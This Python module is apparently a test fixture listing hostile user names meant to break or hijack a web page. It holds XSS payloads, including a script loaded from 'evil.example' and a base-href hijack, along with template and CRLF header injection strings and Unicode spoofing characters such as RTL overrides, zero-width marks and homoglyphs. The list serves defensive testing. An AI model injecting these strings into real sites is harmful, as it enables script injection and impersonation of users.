"""Names that somebody might choose to break a page, to hide behind another's, or to run a script in it."""

from __future__ import annotations

__all__ = ["HOSTILE", "SCRIPTS"]

SCRIPTS = (
    "<script>document.title='broken'</script>",
    "<img src=x onerror=document.title='broken'>",
    "\"><svg onload=document.title='broken'>",
    "' onmouseover='document.title=1' x='",
    "</bdi></a></table></main><h1>owned</h1>",
    "</title><script>document.title='broken'</script>",
    "javascript:document.title='broken'",
    "{{ 7*7 }}{% for x in [] %}",
    "<!--",
    "--><script src=//evil.example/x.js></script>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "&lt;script&gt; &amp;#x3c;",
    "\\u003cscript\\u003e ${document.title=1} `x`",
    "a\r\nset-cookie: x=1",
)

HOSTILE = (
    *SCRIPTS,
    "\u202eecila",  # right-to-left override
    "\u2066\u2067\u2068 isolates that never end",
    "bob\u200b\u200d\u2060\ufeff",  # nothing to see
    "\u200b",
    "nul\x00nul",
    "bell\x07\x1b[31mred",
    "lone \ud800 surrogate",
    "\u0430d\u0430",  # looks like ada, in Cyrillic
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 40,  # marks that climb over the lines above
    "\u05d0\u05d1\u05d2 \u0623\u0628\u062c 123",  # honest right-to-left text
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "   ",
    "",
    "one-word-" * 4000,
    "m" * 1_000_000,
    "\ufdfa" * 200,  # one character as wide as a line
    "line\nbreak\tand tab",
)
